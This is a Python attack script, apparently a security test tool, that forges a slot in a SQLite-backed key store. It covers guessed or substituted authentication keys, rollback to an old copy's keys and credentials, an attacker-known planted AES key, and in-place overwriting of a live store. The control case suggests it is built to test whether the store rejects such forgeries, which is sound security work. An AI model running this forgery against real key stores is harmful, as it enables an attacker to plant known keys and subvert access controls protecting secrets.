#!/usr/bin/env python3
"""An attacker who can write a store makes a whole slot of his own, for the real roles to log in to.

    forge.py STORE FORGED --slot N [--guess random|zeros|public|pair]
    forge.py STORE FORGED --slot N --old OLD --role ROLE (--password-file FILE | --share FILE ...) [--put-back ROLE]

The forged slot has another slot key, one domain and one object that the attacker knows, and a header that names the roles'
own credentials. The slot key is encapsulated to the public keys that stand in the store. What is missing is the
authentication key of each role:

- Without --old the attacker knows no secret and guesses it; `pair` puts a key pair of the attacker's in the roles' place.
- With --old the attacker has the slot key of an old copy, by a secret of then, and thereby the authentication keys of then.
  Where OLD is STORE itself, they are the right ones: that is the control, and the forged slot must be accepted.
- --put-back takes a role's credential and pair from OLD as well.

FORGED is written in any case; it may be STORE itself, also while that is in use. Exit status: 0; 2 when OLD does not open.
"""

import argparse
import contextlib
import os
import sqlite3
import sys
from pathlib import Path

import crypto
import kem
import store
from old_secret import secret_of

OBJECT_LABEL = b"forged"


def varint(number):
    if number < 251:
        return bytes([number])
    size = next(size for size in (2, 4, 8) if number < 1 << 8 * size)
    return bytes([{2: 251, 4: 252, 8: 253}[size]]) + number.to_bytes(size, "little")


def payload(ouid, created):
    """A key that the attacker knows: CKO_SECRET_KEY, CKK_AES."""
    value = bytes(range(32))
    attributes = [(0x01, b"\0\1"), (0x02, b"\0\1"), (0x03, b"\3" + varint(len(OBJECT_LABEL)) + OBJECT_LABEL),
                  (0x11, b"\5" + varint(len(value)) + value), (0x161, b"\1" + varint(len(value)))]
    out = b"\1" + ouid + varint(created) + varint(4) + b"\1" + varint(0x1F) + varint(len(attributes))
    return out + b"".join(varint(number) + value for number, value in attributes)


def guessed(kind, public_key):
    return {"random": os.urandom(32), "zeros": bytes(32), "public": crypto.sha256(public_key), "pair": bytes(32)}[kind]


def encapsulated(slot_key, slot, credential, public_key, authentication):
    """A row of `pairs`."""
    encapsulation, shared = kem.encapsulate(public_key)
    pair = {"credential": credential["id"], "slot": slot["slot"], "generation": slot["generation"],
            "public_key": public_key, "encapsulation": encapsulation}
    key, nonce = store.encapsulation_keys(authentication, shared, slot, credential, pair)
    pair["wrapped"] = crypto.gcm(key).seal(nonce, b"", slot_key)
    aad = store.authentication_aad(slot["serial"], credential["role"], pair)
    pair["authentication"] = crypto.seal_row(store.row_key(slot_key, "authentication"), aad, authentication)
    return pair


def forge(rows, authentication_of, guess, old_slot_key):
    """Replaces everything in the slot that is sealed."""
    (slot,) = rows["slots"]
    serial, slot_key = slot["serial"], os.urandom(32)
    if any(store.of_credential(rows, "pairs", credential) is None for credential in rows["credentials"]):
        # A credential of schema 3, put back: it wraps the slot key of then.
        slot_key = old_slot_key
    slot["generation"] += 1
    public_keys = {row["credential"]: row["public_key"] for row in rows["pairs"]}
    rows["pairs"] = []
    header = store.Header(slot["generation"])
    for credential in rows["credentials"]:
        role = store.NAMES[credential["role"]]
        public_key = public_keys.get(credential["id"])
        if public_key is None:
            header.credentials.append((credential["id"], store.WITHOUT_PAIR, store.credential_hash(rows, credential), None, None))
            continue
        if guess == "pair":
            public_key = kem.public_key(os.urandom(32))
        authentication = authentication_of.get(role) or guessed(guess, public_key)
        pair = encapsulated(slot_key, slot, credential, public_key, authentication)
        rows["pairs"].append(pair)
        header.credentials.append((credential["id"], store.WITH_PAIR, store.credential_hash(rows, credential),
                                   crypto.sha256(public_key), crypto.sha256(pair["encapsulation"])))

    domain = {"id": int.from_bytes(os.urandom(7), "little"), "slot": slot["slot"], "kind": 2, "label": "forged"}
    aad = store.domain_aad(serial, domain)
    domain["sealed"] = crypto.seal_row(store.row_key(slot_key, "domain"), aad, os.urandom(32))
    rows["domains"], header.domains = [domain], [domain["id"]]
    if slot["version"] == 1:
        smk = {"id": int.from_bytes(os.urandom(7), "little"), "slot": slot["slot"]}
        aad = store.smk_aad(serial, smk)
        smk["sealed"] = crypto.seal_row(store.row_key(slot_key, "smk"), aad, os.urandom(32))
        rows["smks"], header.smks = [smk], [smk["id"]]

    ouid, created = os.urandom(16), slot["created_secs"]
    plain = payload(ouid, created)
    row = {"id": 1 << 40, "slot": slot["slot"], "handle": 1, "ouid": ouid, "payload_bytes": len(plain),
           "created_secs": created, "stored_secs": created}
    row["sealed"] = crypto.seal_row(store.row_key(slot_key, "object"), store.object_aad(serial, row), plain)
    rows["objects"], rows["trash"] = [row], []

    sealed = crypto.seal_row(store.row_key(slot_key, "header"), store.header_aad(slot), store.encode_header(header))
    slot["header"] = sealed


def take_credential(rows, old, role):
    """Puts a role's credential and pair of then in the place of those of now."""
    for table in ("credentials", "quorums", "pairs"):
        ids = {row["id"] for side in (rows, old) for row in side["credentials"] if row["role"] == store.ROLES[role]}
        key = store.TABLES[table]
        rows[table] = [row for row in rows[table] if row[key] not in ids]
        rows[table] += [row for row in old[table] if row[key] in ids]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("store")
    parser.add_argument("forged")
    parser.add_argument("--slot", type=int, required=True)
    parser.add_argument("--guess", choices=["random", "zeros", "public", "pair"], default="random")
    parser.add_argument("--old")
    parser.add_argument("--role", choices=store.ROLES)
    parser.add_argument("--password-file", type=Path)
    parser.add_argument("--share", type=Path, action="append")
    parser.add_argument("--put-back", choices=store.ROLES)
    given = parser.parse_args()
    database = store.load(given.store)
    rows = store.rows_of(database, given.slot)
    authentication_of, old_slot_key = {}, None
    if given.old:
        try:
            old = store.rows_of(store.load(given.old), given.slot)
            found = store.login(old, given.role, secret_of(given.password_file, given.share))
        except store.Refused as why:
            print(f"the old copy does not open: {why}", file=sys.stderr)
            return 2
        old_slot_key = found.slot_key
        authentication_of = store.authentications(old, old_slot_key)
        print(f"authentication keys of then: {', '.join(sorted(authentication_of))}")
        if given.put_back:
            take_credential(rows, old, given.put_back)
    forge(rows, authentication_of, given.guess, old_slot_key)
    if given.forged == given.store:
        # Under whoever has it open.
        with contextlib.closing(sqlite3.connect(given.store, isolation_level=None)) as database:
            database.execute("BEGIN IMMEDIATE")
            store.put(database, given.slot, rows, store.TABLES)
            database.execute("COMMIT")
        return 0
    store.put(database, given.slot, rows, store.TABLES)
    store.save(database, given.forged)
    return 0


if __name__ == "__main__":
    sys.exit(main())
